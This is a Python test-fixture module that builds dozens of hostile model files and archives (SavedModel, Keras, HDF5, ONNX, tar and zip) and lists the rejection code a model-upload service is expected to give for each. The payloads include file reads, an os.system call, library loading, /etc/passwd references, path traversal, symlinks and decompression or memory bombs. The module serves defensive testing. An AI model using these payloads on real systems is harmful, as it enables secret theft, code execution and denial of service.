"""Model files made to do harm: each would touch what is outside, or never end, if it were simply loaded."""

from __future__ import annotations

import gzip
import io
import json
import stat
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from onnx import ModelProto, StringStringEntryProto, TensorProto, parser

__all__ = ["ATTACKS", "Attack", "Outside", "constant_of_shape", "endless_loop"]

ROOT = Path(__file__).parents[3]
KERAS = ROOT / "models/keras_dense/tuned.keras"
HDF5 = ROOT / "models/keras_dense/tuned.h5"


@dataclass(frozen=True, slots=True)
class Outside:
    """What an attack is after.

    Attributes:
        marker: A file that it would make.
        secret: A file of somebody else's, with text that must not be told.
        url: Where somebody waits for it to call.
    """

    marker: Path
    secret: Path
    url: str


@dataclass(frozen=True, slots=True)
class Attack:
    """A file, and what the service must say of it.

    Attributes:
        filename: What it is called when it is sent.
        content: Makes it.
        status: The status of the answer; 200 where the harm is no part of the network, and is left behind.
        code: The code of the problem.
    """

    filename: str
    content: Callable[[Outside], bytes]
    status: int = 200
    code: str = ""


# TensorFlow's messages, written byte by byte: the tests need no TensorFlow for them.


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def _field(number: int, content: bytes | str | int) -> bytes:
    if isinstance(content, int):
        return _varint(number << 3) + _varint(content)
    raw = content.encode() if isinstance(content, str) else content
    return _varint(number << 3 | 2) + _varint(len(raw)) + raw


def _entry(number: int, key: str, value: bytes) -> bytes:
    return _field(number, _field(1, key) + _field(2, value))


FLOAT, STRING = 1, 7


def _type(kind: int) -> bytes:
    return _field(6, kind)


def _types(*kinds: int) -> bytes:
    return _field(1, _field(6, bytes(kinds)))


_SHAPES = _field(1, _field(7, _field(2, _field(1, 3))))


def _text(value: str) -> bytes:
    """An attribute that holds a tensor of one text."""
    return _field(8, _field(1, STRING) + _field(2, b"") + _field(8, value))


def _node(name: str, op: str, *inputs: str, **attributes: bytes) -> bytes:
    told = [_entry(5, key, value) for key, value in attributes.items()]
    return b"".join([_field(1, name), _field(2, op), *(_field(3, item) for item in inputs), *told])


def _constant(name: str, value: str) -> bytes:
    return _node(name, "Const", dtype=_type(STRING), value=_text(value))


_X = _node("x", "Placeholder", dtype=_type(FLOAT), shape=_field(7, _field(2, _field(1, 3))))


def _graph(*nodes: bytes, functions: tuple[bytes, ...] = ()) -> bytes:
    library = _field(2, b"".join(_field(1, function) for function in functions)) if functions else b""
    return b"".join(_field(1, node) for node in nodes) + library


def _saved_model(graph: bytes, output: str = "y", objects: bytes = b"") -> bytes:
    def tensor(name: str) -> bytes:
        return _field(1, f"{name}:0") + _field(2, FLOAT) + _field(3, _field(2, _field(1, 3)))

    signature = _entry(1, "x", tensor("x")) + _entry(2, "y", tensor(output)) + _field(3, "tensorflow/serving/predict")
    about = _field(1, _field(4, "serve") + _field(5, "2.15.0")) + _field(2, graph)
    tree = _field(7, objects) if objects else b""
    return _field(1, 1) + _field(2, about + _entry(5, "serving_default", signature) + tree)


def _tar(members: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return packed.getvalue()


def _packed(graph: bytes) -> bytes:
    return _tar({"m/saved_model.pb": _saved_model(graph)})


def _reads(outside: Outside) -> tuple[bytes, ...]:
    return (
        _X,
        _constant("where", str(outside.secret)),
        _node("read", "ReadFile", "where"),
        _node("number", "StringToNumber", "read", out_type=_type(FLOAT)),
        _node("y", "AddV2", "x", "number", T=_type(FLOAT)),
    )


def _function(name: str, *nodes: bytes) -> bytes:
    argument = _field(1, "a") + _field(3, FLOAT)
    result = _field(1, "r") + _field(3, FLOAT)
    signature = _field(1, name) + _field(2, argument) + _field(3, result)
    return (
        _field(1, signature) + b"".join(_field(3, node) for node in nodes) + _field(4, _field(1, "r") + _field(2, "a"))
    )


def _in_a_dataset(outside: Outside) -> bytes:
    """A file that is written by the function of a dataset that the program maps."""
    body = _function(
        "harmless",
        _constant("where", str(outside.marker)),
        _constant("what", "taken over"),
        _node("write", "WriteFile", "where:output:0", "what:output:0"),
    )
    whole = {"output_types": _types(FLOAT), "output_shapes": _SHAPES}
    source = _node("source", "TensorDataset", "x", Toutput_types=_types(FLOAT), output_shapes=_SHAPES)
    mapped = _node("mapped", "MapDataset", "source", f=_field(10, _field(1, "harmless")), Targuments=_types(), **whole)
    taken = _node("taken", "DatasetToSingleElement", "mapped", **whole)
    return _packed(
        _graph(_X, source, mapped, taken, _node("y", "Identity", "taken", T=_type(FLOAT)), functions=(body,))
    )


def _in_functions(outside: Outside) -> bytes:
    """A program of TensorFlow 2 in which a function calls one that calls one that runs Python and removes a file."""
    deepest = _function(
        "deepest",
        _constant("where", str(outside.secret)),
        _node("run", "EagerPyFunc", "where:output:0", token=_field(2, "pyfunc_0"), Tin=_types(STRING), Tout=_types()),
    )
    calls = [
        _function(name, _node("call", "PartitionedCall", "a", f=_field(10, _field(1, inner)), Tin=_types(FLOAT)))
        for name, inner in (("deeper", "deepest"), ("deep", "deeper"))
    ]
    called = _node("y", "StatefulPartitionedCall", "x", f=_field(10, _field(1, "deep")), Tin=_types(FLOAT))
    return _tar(
        {"m/saved_model.pb": _saved_model(_graph(_X, called, functions=(deepest, *calls)), objects=_field(1, b""))}
    )


def _functions_expand(_: Outside) -> bytes:
    """Functions of TensorFlow 2 that each call the next one ten times."""
    base = _function("f0", _node("r", "Identity", "a", T=_type(FLOAT)))
    levels = [
        _function(
            f"f{level}",
            *(_node(f"n{step}", f"f{level - 1}", f"n{step - 1}:r:0" if step else "a") for step in range(10)),
        )
        for level in range(1, 10)
    ]
    return _tar(
        {
            "m/saved_model.pb": _saved_model(
                _graph(_X, _node("y", "f9", "x"), functions=(base, *levels)), objects=_field(1, b"")
            )
        }
    )


def _constants(count: int, size: int) -> Callable[[Outside], bytes]:
    """A frozen graph whose constants are each one number, and a shape."""
    shape = _field(2, _field(2, _field(1, size)))
    value = _field(8, _field(1, FLOAT) + shape + _field(5, b"\0\0\0\0"))
    nodes = [_node(f"c{number}", "Const", dtype=_type(FLOAT), value=value) for number in range(count)]
    adds = [
        _node(f"y{number}", "AddV2", f"y{number - 1}" if number else "x", f"c{number}", T=_type(FLOAT))
        for number in range(count)
    ]
    return lambda _: _graph(_X, *nodes, *adds)


def _saves(outside: Outside) -> bytes:
    """A checkpoint that the network itself writes when it is run."""
    nodes = (
        _X,
        _constant("where", str(outside.marker)),
        _constant("names", "x"),
        _constant("slices", ""),
        _node("save", "SaveV2", "where", "names", "slices", "x", dtypes=_types(FLOAT)),
        _node("y", "Identity", "x", "^save", T=_type(FLOAT)),
    )
    return _packed(_graph(*nodes))


def _custom_op(outside: Outside) -> bytes:
    load = _node("load", "LoadLibrary", library_filename=_field(2, str(outside.secret)))
    return _graph(_X, load, _node("y", "OpOfALibrary", "x"))


# Keras.


def _rezipped(change: Callable[[str, bytes], bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(KERAS) as source, zipfile.ZipFile(packed, "w") as target:
        for name in source.namelist():
            target.writestr(name, change(name, source.read(name)))
    return packed.getvalue()


def _with_layer(layer: dict[str, Any]) -> bytes:
    """A real file in which one layer is another."""

    def change(name: str, content: bytes) -> bytes:
        if name != "config.json":
            return content
        config = json.loads(content)
        layers = config["config"]["layers"]
        layers[-1] = {**layers[-1], **layer, "config": {**layers[-1]["config"], **layer["config"]}}
        return json.dumps(config).encode()

    return _rezipped(change)


def _lambda(outside: Outside) -> bytes:
    # Bytecode is loaded with marshal and run: what it is matters little, it must not be looked at.
    code = {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": None, "closure": None}}
    return _with_layer(
        {
            "class_name": "Lambda",
            "module": "keras.layers",
            "config": {"function": code, "arguments": {"marker": str(outside.marker)}},
        }
    )


def _any_callable(outside: Outside) -> bytes:
    return _with_layer(
        {
            "class_name": "system",
            "module": "os",
            "registered_name": None,
            "config": {"command": f"touch {outside.marker}"},
        }
    )


def _vocabulary(where: str) -> bytes:
    return _with_layer({"class_name": "StringLookup", "module": "keras.layers", "config": {"vocabulary": where}})


def _many_units(_: Outside) -> bytes:
    return _with_layer({"config": {"units": 2_000_000_000}})


def _many_cells(_: Outside) -> bytes:
    """A size that is written as a text, in a layer that takes its square."""
    return _with_layer({"class_name": "LSTM", "module": "keras.layers", "config": {"units": "100000"}})


def _built_for_much(_: Outside) -> bytes:
    """A layer that is small in its settings, and says that it was built for a very wide input."""
    return _with_layer({"build_config": {"input_shape": [None, 2_000_000_000]}, "config": {"units": 1}})


def _deep_json(_: Outside) -> bytes:
    deep = b'{"a":' * 200_000 + b"1" + b"}" * 200_000
    return _rezipped(lambda name, content: deep if name == "config.json" else content)


def _many_lists(_: Outside) -> bytes:
    """A configuration that is packed into a few kB, and becomes five million objects."""
    packed = io.BytesIO()
    with zipfile.ZipFile(KERAS) as source, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            lists = b'{"class_name": "Functional", "a": [' + b"[]," * 5_000_000 + b"[]]}"
            target.writestr(name, lists if name == "config.json" else source.read(name))
    return packed.getvalue()


# HDF5.


@contextmanager
def _changed(into: io.BytesIO) -> Iterator[Any]:
    import h5py

    into.write(HDF5.read_bytes())
    with h5py.File(into, "r+") as file:
        yield file


def _external_link(outside: Outside) -> bytes:
    import h5py

    into = io.BytesIO()
    with _changed(into) as file:
        file["model_weights/stolen"] = h5py.ExternalLink(str(outside.secret), "/")
    return into.getvalue()


def _external_values(outside: Outside) -> bytes:
    into = io.BytesIO()
    with _changed(into) as file:
        file.create_dataset("model_weights/stolen", (20,), "u1", external=[(str(outside.secret), 0, 20)])
    return into.getvalue()


def _virtual(outside: Outside) -> bytes:
    import h5py

    into = io.BytesIO()
    with _changed(into) as file:
        layout = h5py.VirtualLayout((4,), "f4")
        layout[:] = h5py.VirtualSource(str(outside.secret), "a", (4,))
        file.create_virtual_dataset("model_weights/stolen", layout)
    return into.getvalue()


def _declares_much(_: Outside) -> bytes:
    """Fewer than 2 kB that say they hold 256 GiB."""
    import h5py

    into = io.BytesIO()
    with h5py.File(into, "w") as file:
        file.attrs["layer_names"] = [b"dense"]
        group = file.create_group("dense")
        group.attrs["weight_names"] = [b"kernel:0"]
        group.create_dataset("kernel:0", (1 << 36,), "f4", chunks=(1 << 20,), compression="gzip")
    return into.getvalue()


# ONNX.

_PLAIN = """<ir_version: 8, opset_import: ["" : 17]> g (float[N,4] x) => (float[N,4] y) { y = Add(x, w) }"""


def _outside_data(**told: str) -> bytes:
    model = parser.parse_model(_PLAIN)
    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
    weight.external_data.extend(StringStringEntryProto(key=key, value=value) for key, value in told.items())
    model.graph.initializer.append(weight)
    return bytes(model.SerializeToString())


def _function_bomb(_: Outside) -> bytes:
    """About a thousand bytes that stand for ten to the ninth nodes."""
    functions = [
        f'<domain: "f", opset_import: ["" : 17, "f" : 1]> F{level} (a) => (b) {{ '
        + " ".join(
            f"a{step + 1} = f.F{level - 1}(a{step})" if step else f"a1 = f.F{level - 1}(a)" for step in range(10)
        )
        + " b = Identity(a10) }"
        for level in range(1, 10)
    ]
    base = """<domain: "f", opset_import: ["" : 17]> F0 (a) => (b) {
        s = Constant<value = float[1] {1.0}>()
        b = BatchNormalization(a, s, s, s, s)
    }"""
    model = parser.parse_model(
        """<ir_version: 8, opset_import: ["" : 17, "f" : 1]> g (float[N,1,4] x) => (float[N,1,4] y) { y = f.F9(x) }\n"""
        + "\n".join([base, *functions])
    )
    return bytes(model.SerializeToString())


def endless_loop() -> bytes:
    """A loop that goes on for as long as a number of 64 bits allows; it takes one value, and is quick to load."""
    model = parser.parse_model("""<ir_version: 8, opset_import: ["" : 17]> g (float[1,4] x) => (float[1,4] y)
        <int64 most = {9223372036854775807}, bool on = {1}> {
            y = Loop(most, on, x) <body = b (int64 i, bool c, float[1,4] s) => (bool d, float[1,4] t) {
                d = Identity(c)
                t = Cos(s)
            }>
        }""")
    return bytes(model.SerializeToString())


def constant_of_shape() -> bytes:
    """A value of 64 GiB, as large as the first input says."""
    model = parser.parse_model("""<ir_version: 8, opset_import: ["" : 17]> g (int64[1] n) => (float[1] y) {
        big = ConstantOfShape(n)
        y = ReduceSum<keepdims=1>(big)
    }""")
    return bytes(model.SerializeToString())


def _sixty_four_gigabytes(_: Outside) -> bytes:
    model = parser.parse_model("""<ir_version: 8, opset_import: ["" : 17]> g (float[N] x) => (float[N] y)
        <int64[1] n = {17179869184}> {
        big = ConstantOfShape(n)
        s = ReduceSum<keepdims=1>(big)
        y = Add(x, s)
    }""")
    return bytes(model.SerializeToString())


def _long_range(_: Outside) -> bytes:
    """A sequence of 2³⁴ numbers, which whoever follows the values of shapes would write out."""
    model = parser.parse_model("""<ir_version: 8, opset_import: ["" : 17]> g (float[N] x) => (float[N] y)
        <int64 a = {0}, int64 most = {17179869184}, int64 one = {1}> {
        r = Range(a, most, one)
        f = Cast<to = 1>(r)
        s = ReduceSum<keepdims=1>(f)
        y = Add(x, s)
    }""")
    return bytes(model.SerializeToString())


def _foreign_domain(_: Outside) -> bytes:
    model: ModelProto = parser.parse_model(
        """<ir_version: 8, opset_import: ["" : 17, "evil.ops" : 1]>
        g (float[N] x) => (float[N] y) { y = evil.ops.Run(x) }"""
    )
    return bytes(model.SerializeToString())


def _in_a_bundle(**told: str) -> bytes:
    """An archive of a model and of its weights, of which it wants those of others."""
    return _tar({"m/m.onnx": _outside_data(**told), "m/w.bin": bytes(16)})


def _linked_weights(outside: Outside) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        model = _outside_data(location="w.bin", length="16")
        entry = tarfile.TarInfo("m.onnx")
        entry.size = len(model)
        archive.addfile(entry, io.BytesIO(model))
        link = tarfile.TarInfo("w.bin")
        link.type, link.linkname = tarfile.SYMTYPE, str(outside.secret)
        archive.addfile(link)
    return packed.getvalue()


def _reads_for_a_checkpoint(outside: Outside) -> bytes:
    """A checkpoint whose state file leads out, and whose graph reads what is there."""
    return _tar(
        {
            "m-1.meta": _field(1, _field(4, "train")) + _field(2, _graph(*_reads(outside))),
            "m-1.index": b"",
            "m-1.data-00000-of-00001": b"",
            "checkpoint": f'model_checkpoint_path: "{outside.secret}"'.encode(),
        }
    )


# Archives.


def _bomb(_: Outside) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("m/saved_model.pb", _saved_model(_graph(_X)))
        with archive.open("m/variables/variables.data-00000-of-00001", "w") as member:
            for _block in range(80):
                member.write(bytes(1 << 20))
    return packed.getvalue()


def _slips(outside: Outside) -> bytes:
    return _tar(
        {
            "m/saved_model.pb": _saved_model(_graph(_X)),
            "../" * 30 + str(outside.marker).lstrip("/"): b"taken over",
        }
    )


def _slips_absolutely(outside: Outside) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("m/saved_model.pb", _saved_model(_graph(_X)))
        archive.writestr(str(outside.marker), b"taken over")
    return packed.getvalue()


def _linked(kind: bytes) -> Callable[[Outside], bytes]:
    def content(outside: Outside) -> bytes:
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w:gz") as archive:
            graph = _saved_model(_graph(_X))
            entry = tarfile.TarInfo("m/saved_model.pb")
            entry.size = len(graph)
            archive.addfile(entry, io.BytesIO(graph))
            link = tarfile.TarInfo("m/assets")
            link.type, link.linkname = kind, str(outside.secret.parent)
            archive.addfile(link)
        return packed.getvalue()

    return content


def _linked_in_a_zip(outside: Outside) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("m/saved_model.pb", _saved_model(_graph(_X)))
        link = zipfile.ZipInfo("m/assets")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, str(outside.secret.parent))
    return packed.getvalue()


def _twice(_: Outside) -> bytes:
    """Two members of one name: whoever checks the one may read the other."""
    import warnings

    packed = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(packed, "w") as archive:
        warnings.simplefilter("ignore")
        for _copy in range(2):
            archive.writestr("m/saved_model.pb", _saved_model(_graph(_X)))
    return packed.getvalue()


def _encrypted(_: Outside) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("m/saved_model.pb", _saved_model(_graph(_X)))
    content = bytearray(packed.getvalue())
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(signature) + at] |= 1
    return bytes(content)


def _crowd(_: Outside) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("m/saved_model.pb", _saved_model(_graph(_X)))
        for number in range(5000):
            archive.writestr(f"m/assets/{number}", b"")
    return packed.getvalue()


def _long_header(kind: bytes) -> Callable[[Outside], bytes]:
    """A name of 256 MiB, in a few kB."""

    def content(_: Outside) -> bytes:
        packed = io.BytesIO()
        with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=1) as file:
            header = tarfile.TarInfo("m")
            header.type, header.size = kind, 256 << 20
            file.write(header.tobuf(tarfile.USTAR_FORMAT))
            for _block in range(256):
                file.write(bytes(1 << 20))
        return packed.getvalue()

    return content


def _holes(_: Outside) -> bytes:
    """A file of holes, whose map goes on and on."""
    header = bytearray(tarfile.TarInfo("m").tobuf(tarfile.GNU_FORMAT))
    header[156:157], header[482] = tarfile.GNUTYPE_SPARSE, 1
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    block = b"00000000001\0" * 42 + b"\1" + bytes(7)
    return gzip.compress(bytes(header) + block * 100_000)


def _sibling(_: Outside) -> bytes:
    return _outside_data(location="../../secret", length="16")


ATTACKS: dict[str, Attack] = {
    "a SavedModel that reads": Attack("m.tar.gz", lambda o: _packed(_graph(*_reads(o))), 422, "unsupported-op"),
    "a SavedModel that writes in a dataset": Attack("m.tar.gz", _in_a_dataset, 422, "unsupported-op"),
    "a SavedModel that runs Python in a function": Attack("m.tar.gz", _in_functions, 422, "unsupported-op"),
    "a SavedModel whose functions expand": Attack("m.tar.gz", _functions_expand, 422, "unsupported-op"),
    "a constant of 4 TiB": Attack("m.pb", _constants(1, 1 << 40), 422, "corrupt"),
    "a thousand constants of 1 GiB": Attack("m.pb", _constants(1000, 1 << 28), 422, "corrupt"),
    "a SavedModel that saves": Attack("m.tar.gz", _saves),
    "a frozen graph that loads a library": Attack("m.pb", _custom_op, 422, "corrupt"),
    "a Lambda with bytecode": Attack("m.keras", _lambda, 422, "unsupported-op"),
    "a layer that is any callable": Attack("m.keras", _any_callable, 422, "unsupported-op"),
    "a vocabulary at an address": Attack("m.keras", lambda o: _vocabulary(o.url), 422, "unsupported-op"),
    "two thousand million units": Attack("m.keras", _many_units, 422, "corrupt"),
    "a hundred thousand cells": Attack("m.keras", _many_cells, 422, "corrupt"),
    "five million lists": Attack("m.keras", _many_lists, 422, "corrupt"),
    "a layer built for much": Attack("m.keras", _built_for_much, 422, "corrupt"),
    "deep JSON": Attack("m.keras", _deep_json, 422, "corrupt"),
    "a link to another HDF5 file": Attack("m.h5", _external_link, 422, "corrupt"),
    "HDF5 values in another file": Attack("m.h5", _external_values, 422, "corrupt"),
    "a virtual dataset": Attack("m.h5", _virtual, 422, "corrupt"),
    "256 GiB in 2 kB": Attack("m.weights.h5", _declares_much, 422, "corrupt"),
    "external data in a sibling": Attack("m.onnx", _sibling, 422, "corrupt"),
    "external data at a path": Attack(
        "m.onnx", lambda o: _outside_data(location=str(o.secret), length="16"), 422, "corrupt"
    ),
    "external data in the account list": Attack(
        "m.onnx", lambda _: _outside_data(location="/etc/passwd", length="16"), 422, "corrupt"
    ),
    "external data in the orders": Attack(
        "m.onnx", lambda _: _outside_data(location="../job.json", length="16"), 422, "corrupt"
    ),
    "external data of the file itself": Attack(
        "m.onnx", lambda _: _outside_data(location="m.onnx", length="16", basepath="/", checksum="0")
    ),
    "weights of a bundle in a sibling": Attack(
        "m.tar.gz", lambda _: _in_a_bundle(location="../../../secret", length="16"), 422, "corrupt"
    ),
    "weights of a bundle at a path": Attack(
        "m.tar.gz", lambda o: _in_a_bundle(location=str(o.secret), length="16"), 422, "corrupt"
    ),
    "weights of a bundle in the orders": Attack(
        "m.tar.gz", lambda _: _in_a_bundle(location="../../../job.json", length="16"), 422, "corrupt"
    ),
    "weights of a bundle behind a link": Attack("m.tar.gz", _linked_weights, 422, "corrupt"),
    "a checkpoint that reads": Attack("m.tar.gz", _reads_for_a_checkpoint, 422, "unsupported-op"),
    "functions that expand": Attack("m.onnx", _function_bomb, 422, "corrupt"),
    "a value of 64 GiB": Attack("m.onnx", _sixty_four_gigabytes, 409, "inconclusive"),
    "a range of 128 GiB": Attack("m.onnx", _long_range, 409, "inconclusive"),
    "an unknown domain": Attack("m.onnx", _foreign_domain, 409, "inconclusive"),
    "a zip bomb": Attack("m.zip", _bomb, 422, "corrupt"),
    "a name of 256 MiB in an archive": Attack("m.tar.gz", _long_header(tarfile.GNUTYPE_LONGNAME), 422, "corrupt"),
    "a header of 256 MiB in an archive": Attack("m.tar.gz", _long_header(tarfile.XHDTYPE), 422, "corrupt"),
    "a file of holes in an archive": Attack("m.tar.gz", _holes, 422, "corrupt"),
    "nodes without names": Attack("m.pb", lambda _: _graph(_X) + b"\x0a\0" * 500_000, 422, "corrupt"),
    "a path out of an archive": Attack("m.tar.gz", _slips, 422, "corrupt"),
    "a path from the top in an archive": Attack("m.zip", _slips_absolutely, 422, "corrupt"),
    "a symbolic link in an archive": Attack("m.tar.gz", _linked(tarfile.SYMTYPE), 422, "corrupt"),
    "a hard link in an archive": Attack("m.tar.gz", _linked(tarfile.LNKTYPE), 422, "corrupt"),
    "a device in an archive": Attack("m.tar.gz", _linked(tarfile.CHRTYPE), 422, "corrupt"),
    "a link in a zip archive": Attack("m.zip", _linked_in_a_zip, 422, "corrupt"),
    "one name twice": Attack("m.zip", _twice, 422, "corrupt"),
    "an encrypted archive": Attack("m.zip", _encrypted, 422, "corrupt"),
    "five thousand files": Attack("m.zip", _crowd, 422, "corrupt"),
}
